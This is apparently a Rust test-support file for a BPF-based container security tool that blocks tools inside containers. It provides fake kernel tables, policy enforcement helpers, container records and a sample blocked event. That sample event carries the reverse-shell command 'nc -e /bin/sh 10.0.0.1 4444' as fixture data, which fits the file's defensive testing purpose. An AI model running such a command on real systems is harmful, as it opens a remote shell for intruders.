//! What the tests of several modules share, and fuzz targets, which need less of it.
#![allow(clippy::unwrap_used, reason = "clippy does not see that it is for tests")]
#![cfg_attr(fuzzing, allow(dead_code))]

use std::{
    collections::{HashMap, HashSet},
    fs, io,
    path::{Path, PathBuf},
    sync::{Arc, Mutex, MutexGuard},
};

use portcullis_bpf::{
    abi::{self, Ancestor, Event, Hook, Verdict, container_flags, identified_by},
    cgroup::Cgroup,
    guard::{GuardError, Move, Placement},
    isolation::IsolationError,
    tables::Content,
};
use portcullis_policy::{
    catalog::Catalog,
    policyset::{Backend, Mode},
    record::{ContainerRecord, DIR_NAME, FORMAT, Guard, file_name},
};

use crate::{
    containers::Containers,
    containment::Means,
    counters::Counters,
    enforcement::{Enforcement, Node, Overrides, PolicyTables},
    policies,
    tools::{Known, Tools},
};

/// The kernel's tables, without a kernel.
#[derive(Default)]
pub struct FakeTables {
    state: Mutex<FakeState>,
}

/// What is in them.
#[derive(Default)]
pub struct FakeState {
    /// By cgroup id.
    pub containers: HashMap<u64, abi::Container>,
    /// The policies that have rules.
    pub policies: HashSet<u32>,
    /// Nothing can be added.
    pub full: bool,
    /// Containers that can't be moved.
    pub stuck: HashSet<u64>,
    /// Cgroups that are cut off from the network.
    pub isolated: HashSet<u64>,
}

impl FakeTables {
    /// To look into them and to change them.
    pub fn state(&self) -> MutexGuard<'_, FakeState> {
        self.state.lock().unwrap()
    }

    /// A container is entered, as by its shim.
    pub fn enter(&self, cgroup_id: u64, policy: u32, mode: abi::Mode) {
        let mode = mode as u32;
        let container = abi::Container {
            cgroup_id,
            policy,
            mode,
            init_pid: 7,
            backend: 1,
            scope: 9,
            node_mount_ns: 11,
            exceptions: u32::MAX,
            flags: 0,
            level: 0,
        };
        self.state().containers.insert(cgroup_id, container);
    }

    fn error() -> GuardError {
        GuardError::Bpffs { path: "/fake".into(), source: io::Error::other("fake") }
    }
}

impl PolicyTables for FakeTables {
    fn add(&self, content: &Content) -> Result<(), GuardError> {
        let mut state = self.state();
        if state.full {
            return Err(Self::error());
        }
        state.policies.extend(content.rules.iter().map(|(key, _)| key.policy));
        Ok(())
    }

    fn retain(&self, content: &Content, held: &HashSet<u32>) -> Result<(), GuardError> {
        let wanted: HashSet<u32> =
            content.rules.iter().map(|(key, _)| key.policy).chain(held.iter().copied()).collect();
        self.state().policies.retain(|id| wanted.contains(id));
        Ok(())
    }

    fn policies_held(&self) -> Result<HashSet<u32>, GuardError> {
        Ok(self.state().containers.values().map(|container| container.policy).collect())
    }

    fn container(&self, cgroup_id: u64) -> Result<Option<abi::Container>, GuardError> {
        Ok(self.state().containers.get(&cgroup_id).copied())
    }

    fn move_container(&self, cgroup_id: u64, to: Placement) -> Result<Move, GuardError> {
        let mut state = self.state();
        if state.stuck.contains(&cgroup_id) {
            return Err(Self::error());
        }
        // Whoever is moved to a policy has its rules.
        assert!(state.policies.contains(&to.policy));
        let Some(container) = state.containers.get_mut(&cgroup_id) else { return Ok(Move::Gone) };
        let Placement { policy, mode, exceptions } = to;
        let new = abi::Container { policy, mode: mode as u32, exceptions, ..*container };
        Ok(if std::mem::replace(container, new) == new { Move::InPlace } else { Move::Moved })
    }
}

impl Means for FakeTables {
    fn set_locked(&self, cgroup_id: u64, locked: bool) -> Result<Move, GuardError> {
        let mut state = self.state();
        let Some(container) = state.containers.get_mut(&cgroup_id) else { return Ok(Move::Gone) };
        let flags = if locked { container_flags::LOCKED } else { 0 };
        Ok(if std::mem::replace(&mut container.flags, flags) == flags { Move::InPlace } else { Move::Moved })
    }

    fn is_locked(&self, cgroup_id: u64) -> Result<bool, GuardError> {
        Ok(self.state().containers.get(&cgroup_id).is_some_and(|container| container.flags != 0))
    }

    fn isolate(&self, cgroup: &Cgroup) -> Result<(), IsolationError> {
        self.state().isolated.insert(cgroup.id);
        Ok(())
    }

    fn end_isolation(&self, cgroup_id: u64) -> Result<(), IsolationError> {
        self.state().isolated.remove(&cgroup_id);
        Ok(())
    }

    fn is_isolated(&self, cgroup_id: u64) -> bool {
        self.state().isolated.contains(&cgroup_id)
    }
}

/// A node whose directories are all in one.
pub fn node(directory: &Path) -> Node {
    Node {
        run_dir: directory.to_owned(),
        policy_dir: directory.join("policies"),
        policy_dirs: vec![directory.join("policies"), directory.join("more")],
        catalog_dir: directory.join("catalog.d"),
        backend: Backend::Lsm,
        pins: "/sys/fs/bpf/portcullis".into(),
        inner_shim: "inner".into(),
    }
}

/// The policies of a directory in force, or the shipped one, with tables as given.
pub fn enforcement_with(
    directory: &Path,
    containers: &Containers,
    tables: Arc<FakeTables>,
    counters: Arc<Counters>,
) -> Enforcement {
    let node = node(directory);
    let catalog = Catalog::shipped().unwrap();
    let policies = policies::load(&node.policy_dirs, &catalog).unwrap();
    let tools = Tools::new(Known::new(catalog, policies.meanings()));
    let overrides = Overrides::open(directory, &counters);
    Enforcement::start(node, tables, containers.clone(), tools, counters, policies, overrides).unwrap()
}

/// The same, where the tables do not matter.
pub fn enforcement(directory: &Path, containers: &Containers) -> Enforcement {
    enforcement_with(directory, containers, Arc::default(), Arc::default())
}

/// A guarded container's record.
pub fn record(cgroup_id: u64, container_id: &str) -> ContainerRecord {
    ContainerRecord {
        format: FORMAT,
        cgroup_id,
        cgroup_path: format!("/nonexistent/{container_id}").into(),
        container_id: container_id.into(),
        containerd_namespace: "default".into(),
        containerd_address: "/nonexistent/containerd.sock".into(),
        pid: 100,
        bundle: "/nonexistent/bundle".into(),
        policy_id: 1,
        policy: "default".into(),
        mode: Mode::Enforce,
        mode_reason: "policy".into(),
        policy_reason: "no other policy selects this container".into(),
        backend: Some(Backend::Lsm),
        pins: PathBuf::new(),
        guard: Guard::Guarded,
        contents_unknown: None,
        annotations: [].into(),
        created_ns: 1_700_000_000_000_000_000,
        ended_ns: None,
        counts: None,
    }
}

/// Writes a record as the shim does.
pub fn write_record(run_dir: &Path, record: &ContainerRecord) {
    let name = file_name(record.cgroup_id, &record.containerd_namespace, &record.container_id);
    let directory = run_dir.join(DIR_NAME);
    let temporary = directory.join(format!(".{name}"));
    fs::write(&temporary, serde_json::to_vec(record).unwrap()).unwrap();
    fs::rename(temporary, directory.join(name)).unwrap();
}

/// `nc -e /bin/sh 10.0.0.1 4444`, blocked.
pub fn event(cgroup_id: u64, tool: u32, time_ns: u64) -> Event {
    let argv = |text: &str| text.split(' ').map(|argument| argument.as_bytes().to_vec()).collect();
    Event {
        verdict: Verdict::Blocked,
        time_ns,
        start_time_ns: 5,
        cgroup_id,
        leaf_cgroup_id: cgroup_id,
        inode: 1234,
        file_size: 99,
        policy: 1,
        tool,
        identified_by: identified_by::INVOKED_NAME | identified_by::RESOLVED_NAME,
        hook: Hook::BprmCheck,
        flags: 0,
        pid: 100,
        tid: 101,
        ns_pid: 7,
        uid: 1000,
        gid: 1001,
        argc: 5,
        place: 0,
        rule: 0,
        remote: None,
        invoked: b"nc".to_vec(),
        tty: b"pts0".to_vec(),
        filename: b"/bin/nc".to_vec(),
        exe: b"/usr/bin/nc.openbsd".to_vec(),
        cwd: b"/tmp".to_vec(),
        argv: argv("nc -e /bin/sh 10.0.0.1 4444"),
        lineage: vec![Ancestor {
            start_time_ns: 4,
            pid: 99,
            ns_pid: 6,
            uid: 0,
            flags: 0,
            argc: 3,
            exe: b"/bin/sh".to_vec(),
            argv: argv("sh -c x"),
        }],
    }
}
